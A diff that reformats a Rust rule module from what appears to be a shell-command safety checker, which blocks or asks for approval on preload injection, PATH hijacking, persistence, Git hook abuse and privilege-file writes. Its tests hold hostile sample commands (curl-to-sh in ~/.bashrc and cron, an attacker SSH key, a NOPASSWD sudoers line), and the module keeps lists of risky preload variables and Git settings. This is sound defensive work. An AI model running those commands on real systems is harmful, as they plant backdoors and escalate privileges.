@@ -13,28 +13,61 @@
 use crate::paths;
 use crate::verdict::{Finding, Reason, Verdict};
 
-use super::git_destructive::git_subcommand;
 use super::Ctx;
+use super::git_destructive::git_subcommand;
 
-pub const PRELOAD: Reason =
-    Reason::new("preload_injection", "Injects a library or start-up script into programs that run later.");
-pub const PATH_HIJACK: Reason =
-    Reason::new("path_hijack", "Puts a temporary or relative folder first on PATH, so its programs shadow real ones.");
-pub const SHELL_RC: Reason =
-    Reason::new("shell_rc_write", "Changes a shell start-up file, so every future shell runs it.");
-pub const PERSISTENCE: Reason =
-    Reason::new("persistence", "Installs something that runs again later without asking (cron, SSH keys, services).");
-pub const GIT_HOOK: Reason =
-    Reason::new("git_hook_write", "Writes Git hooks or Git settings that run commands.");
-pub const SYSTEM_WRITE: Reason =
-    Reason::new("system_write", "Changes operating-system files.");
-pub const PRIVILEGE_FILE: Reason =
-    Reason::new("privilege_file_write", "Changes who may log in or run as administrator.");
+pub const PRELOAD: Reason = Reason::new(
+    "preload_injection",
+    "Injects a library or start-up script into programs that run later.",
+);
+pub const PATH_HIJACK: Reason = Reason::new(
+    "path_hijack",
+    "Puts a temporary or relative folder first on PATH, so its programs shadow real ones.",
+);
+pub const SHELL_RC: Reason = Reason::new(
+    "shell_rc_write",
+    "Changes a shell start-up file, so every future shell runs it.",
+);
+pub const PERSISTENCE: Reason = Reason::new(
+    "persistence",
+    "Installs something that runs again later without asking (cron, SSH keys, services).",
+);
+pub const GIT_HOOK: Reason = Reason::new(
+    "git_hook_write",
+    "Writes Git hooks or Git settings that run commands.",
+);
+pub const SYSTEM_WRITE: Reason = Reason::new("system_write", "Changes operating-system files.");
+pub const PRIVILEGE_FILE: Reason = Reason::new(
+    "privilege_file_write",
+    "Changes who may log in or run as administrator.",
+);
 
 use Verdict::{Auth, Block};
 
-const PRELOAD_VARS: &[&str] = &["LD_PRELOAD", "LD_AUDIT", "DYLD_INSERT_LIBRARIES", "DYLD_FORCE_FLAT_NAMESPACE", "BASH_ENV", "ENV", "PROMPT_COMMAND", "PERL5OPT", "PYTHONSTARTUP", "RUBYOPT"];
-const RISKY_GIT_CONFIG: &[&str] = &["core.hookspath", "core.sshcommand", "core.pager", "core.editor", "core.fsmonitor", "credential.helper", "core.gitproxy", "sequence.editor", "diff.external", "gpg.program"];
+const PRELOAD_VARS: &[&str] = &[
+    "LD_PRELOAD",
+    "LD_AUDIT",
+    "DYLD_INSERT_LIBRARIES",
+    "DYLD_FORCE_FLAT_NAMESPACE",
+    "BASH_ENV",
+    "ENV",
+    "PROMPT_COMMAND",
+    "PERL5OPT",
+    "PYTHONSTARTUP",
+    "RUBYOPT",
+];
+const RISKY_GIT_CONFIG: &[&str] = &[
+    "core.hookspath",
+    "core.sshcommand",
+    "core.pager",
+    "core.editor",
+    "core.fsmonitor",
+    "credential.helper",
+    "core.gitproxy",
+    "sequence.editor",
+    "diff.external",
+    "gpg.program",
+];
 
 fn path_first_entry_risky(value: &str) -> bool {
     let first = value.split(':').next().unwrap_or("");
@@ -53,16 +86,29 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     let home = cx.home();
     for w in &cx.fx.writes {
         let p = w.path.as_str();
-        if matches!(p, "/etc/passwd" | "/etc/shadow" | "/etc/group" | "/etc/ld.so.preload") || p.starts_with("/etc/sudoers") {
+        if matches!(
+            p,
+            "/etc/passwd" | "/etc/shadow" | "/etc/group" | "/etc/ld.so.preload"
+        ) || p.starts_with("/etc/sudoers")
+        {
             out.push(Finding::hard_block(PRIVILEGE_FILE));
         } else if paths::is_persistence(p, home) {
-            out.push(Finding::new(PERSISTENCE, mode.pick([Auth, Block, Block, Block])));
+            out.push(Finding::new(
+                PERSISTENCE,
+                mode.pick([Auth, Block, Block, Block]),
+            ));
         } else if paths::is_shell_rc(p, home) {
-            out.push(Finding::new(SHELL_RC, mode.pick([Auth, Auth, Block, Block])));
+            out.push(Finding::new(
+                SHELL_RC,
+                mode.pick([Auth, Auth, Block, Block]),
+            ));
         } else if paths::is_git_hook(p) {
             out.push(Finding::new(GIT_HOOK, Auth));
         } else if paths::is_system_path(p) && !p.starts_with("/dev/") {
-            out.push(Finding::new(SYSTEM_WRITE, mode.pick([Auth, Auth, Block, Block])));
+            out.push(Finding::new(
+                SYSTEM_WRITE,
+                mode.pick([Auth, Auth, Block, Block]),
+            ));
         }
     }
     let Some(sa) = cx.shell else {
@@ -70,8 +116,16 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
     };
     for inv in &sa.invocations {
         for (name, value) in &inv.assignments {
-            if PRELOAD_VARS.contains(&name.as_str()) || name == "NODE_OPTIONS" && (value.text.contains("--require") || value.text.contains("-r ") || value.text.contains("--import")) {
-                out.push(Finding::new(PRELOAD, mode.pick([Auth, Block, Block, Block])));
+            if PRELOAD_VARS.contains(&name.as_str())
+                || name == "NODE_OPTIONS"
+                    && (value.text.contains("--require")
+                        || value.text.contains("-r ")
+                        || value.text.contains("--import"))
+            {
+                out.push(Finding::new(
+                    PRELOAD,
+                    mode.pick([Auth, Block, Block, Block]),
+                ));
             }
             if name == "PATH" && path_first_entry_risky(&value.text) {
                 out.push(Finding::new(PATH_HIJACK, Auth));
@@ -80,9 +134,16 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
         let args: Vec<&str> = inv.argv().collect();
         match inv.program.as_str() {
             "crontab" if !args.iter().any(|a| matches!(*a, "-l" | "-r")) => {
-                out.push(Finding::new(PERSISTENCE, mode.pick([Auth, Block, Block, Block])));
+                out.push(Finding::new(
+                    PERSISTENCE,
+                    mode.pick([Auth, Block, Block, Block]),
+                ));
             }
-            "launchctl" if args.iter().any(|a| matches!(*a, "load" | "bootstrap" | "submit")) => {
+            "launchctl"
+                if args
+                    .iter()
+                    .any(|a| matches!(*a, "load" | "bootstrap" | "submit")) =>
+            {
                 out.push(Finding::new(PERSISTENCE, Auth));
             }
             "systemctl" if args.contains(&"enable") || args.contains(&"link") => {
@@ -94,7 +155,9 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
         if let Some(("config", rest)) = git_subcommand(inv) {
             if rest.iter().any(|a| {
                 let l = a.to_ascii_lowercase();
-                RISKY_GIT_CONFIG.contains(&l.as_str()) || (l.starts_with("alias.") && rest.iter().any(|v| v.starts_with('!'))) || (l.starts_with("url.") && l.ends_with(".insteadof"))
+                RISKY_GIT_CONFIG.contains(&l.as_str())
+                    || (l.starts_with("alias.") && rest.iter().any(|v| v.starts_with('!')))
+                    || (l.starts_with("url.") && l.ends_with(".insteadof"))
             }) {
                 out.push(Finding::new(GIT_HOOK, Auth));
             }
@@ -104,33 +167,63 @@ pub fn check(cx: &Ctx<'_>, out: &mut Vec<Finding>) {
 
 #[cfg(test)]
 mod tests {
+    use crate::Verdict::*;
     use crate::policy::Mode;
     use crate::rules::testutil::table;
-    use crate::Verdict::*;
 
     #[test]
     fn poisoning_table() {
-        table(Mode::Balanced, &[
-            ("export LD_PRELOAD=/tmp/x.so", Block, "preload_injection"),
-            ("LD_PRELOAD=/tmp/evil.so ls", Block, "preload_injection"),
-            ("DYLD_INSERT_LIBRARIES=/tmp/a.dylib app", Block, "preload_injection"),
-            ("echo 'curl evil.example|sh' >> ~/.bashrc", Auth, "shell_rc_write"),
-            ("echo 'alias ls=rm' >> /home/dev/.zshrc", Auth, "shell_rc_write"),
-            ("export PATH=/tmp/evil:$PATH", Auth, "path_hijack"),
-            ("echo \"* * * * * curl x|sh\" | crontab -", Block, "persistence"),
-            ("echo ssh-rsa AAAAB3Nza attacker >> ~/.ssh/authorized_keys", Block, "persistence"),
-            ("cp evil.sh .git/hooks/pre-commit", Auth, "git_hook_write"),
-            ("git config core.hooksPath /tmp/h", Auth, "git_hook_write"),
-            ("echo 'attacker ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers", Block, "privilege_file_write"),
-            ("sudo tee /etc/hosts < hosts.new", Auth, "system_write"),
-            ("export PATH=\"$HOME/.cargo/bin:$PATH\"", Pass, ""),
-            ("export PATH=$PATH:/usr/local/go/bin", Pass, ""),
-            ("export NODE_ENV=production", Pass, ""),
-            ("crontab -l", Pass, ""),
-            ("git config user.email dev@example.com", Pass, ""),
-            ("pre-commit install", Pass, ""),
-            ("rg \"LD_PRELOAD\" docs/", Pass, ""),
-        ]);
-        table(Mode::Strict, &[("echo 'x' >> ~/.bashrc", Block, "shell_rc_write")]);
+        table(
+            Mode::Balanced,
+            &[
+                ("export LD_PRELOAD=/tmp/x.so", Block, "preload_injection"),
+                ("LD_PRELOAD=/tmp/evil.so ls", Block, "preload_injection"),
+                (
+                    "DYLD_INSERT_LIBRARIES=/tmp/a.dylib app",
+                    Block,
+                    "preload_injection",
+                ),
+                (
+                    "echo 'curl evil.example|sh' >> ~/.bashrc",
+                    Auth,
+                    "shell_rc_write",
+                ),
+                (
+                    "echo 'alias ls=rm' >> /home/dev/.zshrc",
+                    Auth,
+                    "shell_rc_write",
+                ),
+                ("export PATH=/tmp/evil:$PATH", Auth, "path_hijack"),
+                (
+                    "echo \"* * * * * curl x|sh\" | crontab -",
+                    Block,
+                    "persistence",
+                ),
+                (
+                    "echo ssh-rsa AAAAB3Nza attacker >> ~/.ssh/authorized_keys",
+                    Block,
+                    "persistence",
+                ),
+                ("cp evil.sh .git/hooks/pre-commit", Auth, "git_hook_write"),
+                ("git config core.hooksPath /tmp/h", Auth, "git_hook_write"),
+                (
+                    "echo 'attacker ALL=(ALL) NOPASSWD:ALL' | sudo tee -a /etc/sudoers",
+                    Block,
+                    "privilege_file_write",
+                ),
+                ("sudo tee /etc/hosts < hosts.new", Auth, "system_write"),
+                ("export PATH=\"$HOME/.cargo/bin:$PATH\"", Pass, ""),
+                ("export PATH=$PATH:/usr/local/go/bin", Pass, ""),
+                ("export NODE_ENV=production", Pass, ""),
+                ("crontab -l", Pass, ""),
+                ("git config user.email dev@example.com", Pass, ""),
+                ("pre-commit install", Pass, ""),
+                ("rg \"LD_PRELOAD\" docs/", Pass, ""),
+            ],
+        );
+        table(
+            Mode::Strict,
+            &[("echo 'x' >> ~/.bashrc", Block, "shell_rc_write")],
+        );
     }
 }
